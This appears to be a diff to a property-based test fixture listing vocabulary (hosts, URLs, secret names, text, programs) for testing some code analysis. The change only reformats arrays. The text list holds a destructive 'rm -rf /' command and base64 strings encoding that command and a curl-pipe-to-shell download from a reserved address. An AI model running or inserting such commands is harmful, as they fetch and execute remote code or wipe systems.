@@ -2,7 +2,15 @@ import fc from 'fast-check';
 
 /** Names that mean something to the analysis, and some that do not. Hosts and addresses are reserved ones. */
 export const words = {
-  host: ['api.ledgerly.example', 'drop.invalid', 'stats.test', '192.0.2.7', '[2001:db8::1]', 'localhost:8080', 'xn--a.example'],
+  host: [
+    'api.ledgerly.example',
+    'drop.invalid',
+    'stats.test',
+    '192.0.2.7',
+    '[2001:db8::1]',
+    'localhost:8080',
+    'xn--a.example',
+  ],
   url: [
     'https://drop.example/in',
     'http://192.0.2.7/x.sh',
@@ -32,7 +40,18 @@ export const words = {
   secret: ['AWS_SECRET_ACCESS_KEY', 'LEDGERLY_API_KEY', 'GITHUB_TOKEN', 'HOME', 'PATH', '__proto__', 'constructor'],
   name: ['a', 'key', 'data', 'toString', '__proto__', 'hasOwnProperty', 'é', '名前', 'x1', '_', 'undefined', 'then'],
   number: ['0', '1', '-1', '0x7f', '1e309', '99999999999999999999', '0.5', 'NaN', '1_000', '010'],
-  text: ['', 'hello', 'cm0gLXJmIC8=', 'Y3VybCBodHRwOi8vMTkyLjAuMi43L3ggfCBzaA==', '72 6d', '%s', 'a b', '-rf', '*', 'rm -rf /'],
+  text: [
+    '',
+    'hello',
+    'cm0gLXJmIC8=',
+    'Y3VybCBodHRwOi8vMTkyLjAuMi43L3ggfCBzaA==',
+    '72 6d',
+    '%s',
+    'a b',
+    '-rf',
+    '*',
+    'rm -rf /',
+  ],
   program: ['curl', 'bash', 'python3', 'node', 'rm', 'base64', 'nc', 'openssl', 'npx', 'git', './run.sh'],
 } as const;
 
